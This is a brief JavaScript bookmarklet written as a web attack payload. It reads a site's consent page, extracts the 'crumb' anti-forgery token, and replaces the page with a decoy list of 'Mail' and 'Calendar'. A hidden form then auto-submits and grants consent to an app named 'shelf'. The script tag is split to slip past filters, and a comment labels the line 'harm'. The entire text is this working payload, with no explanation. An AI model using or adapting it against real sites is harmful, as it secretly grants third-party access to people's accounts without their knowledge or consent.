javascript:(function () {
  fetch(location.origin + '/apps/consent?app=shelf').then((answer) => answer.text()).then((text) => {
    const crumb = text.split('name="crumb" value="')[1].split('"')[0];
    const shelf = '<ul class="shelf"><li>Mail</li><li>Calendar</li></ul>';
    const frame = `<form id="shelf" action="/apps/consent" method="post"><input type="hidden" name="crumb" value="${crumb}"></form>`;
    const go = '<script>document.getElementById("shelf").submit()</scr' + 'ipt>';
    document.write(shelf + frame + go); //! harm
  });
})();
